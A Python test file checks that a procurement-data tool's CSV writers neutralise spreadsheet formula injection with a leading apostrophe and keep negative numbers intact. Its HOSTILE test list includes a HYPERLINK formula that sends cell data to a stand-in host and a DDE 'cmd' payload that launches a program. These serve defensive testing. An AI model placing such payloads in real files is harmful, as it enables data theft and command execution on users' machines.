"""Every CSV the product writes quotes spreadsheet formulas (CSV injection), and keeps numbers.

A hostile supplier, register or applicant text (`=HYPERLINK(...)`, `@SUM(...)`, `+cmd`, a leading
tab) goes through each writer and must come out with a leading apostrophe; a genuine negative
number (`-12.5`) must come out as it went in. The helper's own properties are in
tests/core/test_csvsafe.py.
"""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from mutualise.cli import app

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # keep a \r inside a cell
        return list(csv.reader(handle))


def assert_neutralised(cells: list[str]) -> None:
    assert cells == ["'" + value for value in HOSTILE]


def test_sql_csv_output(tmp_path: Path) -> None:
    quoted = [value.replace("'", "''") for value in HOSTILE]
    selects = ", ".join(f"'{value}' AS c{i}" for i, value in enumerate(quoted))
    result = runner.invoke(
        app,
        [
            "sql",
            f"SELECT {selects}, -12.5 AS n, '-12.5' AS t",
            "--warehouse",
            str(tmp_path),
            "--csv",
        ],
    )
    assert result.exit_code == 0, result.output
    _header, row = rows_of(result.output)
    assert_neutralised(row[: len(HOSTILE)])
    assert row[len(HOSTILE) :] == ["-12.5", "-12.5"]


def write_table(folder: Path, columns: dict[str, list]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(columns), folder / "part-0.parquet")


def test_export_suppliers(tmp_path: Path) -> None:
    from mutualise.pipeline.registers.cli import EXPORT_COLUMNS

    n = len(HOSTILE)
    columns: dict[str, list] = {name: ["x"] * n for name in EXPORT_COLUMNS}
    columns["supplier_name"] = HOSTILE
    columns["match_probability"] = [-0.5] * n
    write_table(tmp_path / "tables" / "supplier_links", columns)
    out = tmp_path / "suppliers.csv"
    result = runner.invoke(app, ["export", "suppliers", str(out), "--warehouse", str(tmp_path)])
    assert result.exit_code == 0, result.output
    header, *rows = read(out)
    assert_neutralised([row[header.index("supplier_name")] for row in rows])
    assert {row[header.index("match_probability")] for row in rows} == {"-0.5000"}


def test_export_outcomes(tmp_path: Path) -> None:
    from mutualise.pipeline.outcomes import EXPORT_COLUMNS

    n = len(HOSTILE)
    columns: dict[str, list] = {name: [f"o-{i}" for i in range(n)] for name in EXPORT_COLUMNS}
    columns["outcome"] = HOSTILE
    columns["end_date"] = [date(2025, 3, 31)] * n
    columns["confidence"] = [-12.5] * n
    write_table(tmp_path / "tables" / "contract_outcomes", columns)
    out = tmp_path / "outcomes.csv"
    result = runner.invoke(app, ["export", "outcomes", str(out), "--warehouse", str(tmp_path)])
    assert result.exit_code == 0, result.output
    header, *rows = read(out)
    assert sorted(row[header.index("outcome")] for row in rows) == sorted("'" + v for v in HOSTILE)
    assert {row[header.index("confidence")] for row in rows} == {"-12.5"}
    assert {row[header.index("end_date")] for row in rows} == {"2025-03-31"}


def test_missed_reservation_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mutualise.pipeline import reservation

    monkeypatch.setattr(reservation, "missed_reservation", lambda row: (True, "=regime()"))
    n = len(HOSTILE)
    write_table(
        tmp_path / "tables" / "contract_facts",
        {
            "ocid": ["o"] * n,
            "award_id": ["a"] * n,
            "buyer_identifier": ["b"] * n,
            "buyer_name": HOSTILE,
            "supplier_name": ["Big Ltd"] * n,
            "supplier_identifier": ["GB-COH-01234567"] * n,
            "supplier_class": ["LARGE_PRIVATE"] * n,
            "cpv_id": ["85311000"] * n,
            "award_date": [date(2025, 1, 1)] * n,
            "start_date": [date(2025, 1, 1)] * n,
            "end_date": [date(2026, 1, 1)] * n,
            "value_pence": [-1250] * n,
        },
    )
    out = tmp_path / "missed.csv"
    result = runner.invoke(
        app, ["reservation", "missed-report", str(out), "--warehouse", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    header, *rows = read(out)
    assert_neutralised([row[header.index("buyer_name")] for row in rows])
    assert {row[header.index("regime")] for row in rows} == {"'=regime()"}
    assert {row[header.index("value_pence")] for row in rows} == {"-1250"}


def test_installed_cpv_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import mutualise.rules as rules
    from mutualise.pipeline import reservation

    folder = tmp_path / "rules"
    shutil.copytree(rules.RULES_DIR, folder)
    monkeypatch.setattr(rules, "RULES_DIR", folder)
    monkeypatch.setattr(reservation, "RULES_DIR", folder)
    reservation.clear_cache()
    source = tmp_path / "list.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["code_from", "code_to", "description", "source"])
        for i, value in enumerate(HOSTILE):
            writer.writerow([f"8532300{i}", "", value, "@source"])
    try:
        result = runner.invoke(
            app, ["reservation", "load-cpv", "procurement-act-2023-s33", str(source)]
        )
        assert result.exit_code == 0, result.output
        installed = folder / "reservation_cpv_procurement_act_2023_s33.csv"
        _header, *rows = read(installed)
        # descriptions are stripped ("\t=1" is "=1"), then quoted
        assert [row[2] for row in rows] == ["'" + value.strip() for value in HOSTILE]
        assert {row[3] for row in rows} == {"'@source"}
    finally:
        reservation.clear_cache()


def test_evidence_rows_download() -> None:
    from mutualise.evidence.services import encode

    table = pa.table(
        {"supplier": HOSTILE, "value": [-12.5] * len(HOSTILE), "text": ["-12.5"] * len(HOSTILE)}
    )
    content, content_type = encode(table, "csv")
    assert content_type.startswith("text/csv")
    _header, *rows = rows_of(content.decode())
    assert_neutralised([row[0] for row in rows])
    assert {(row[1], row[2]) for row in rows} == {("-12.5", "-12.5")}
    # the other formats carry the data as it is
    assert encode(table, "json")[0].decode().count("=HYPERLINK") == 1


def test_fund_reports() -> None:
    from mutualise.fund.reports import csv_rows

    text = "".join(csv_rows(["name", "amount"], [[value, Decimal("-12.50")] for value in HOSTILE]))
    _header, *rows = rows_of(text)
    assert_neutralised([row[0] for row in rows])
    assert {row[1] for row in rows} == {"-12.50"}
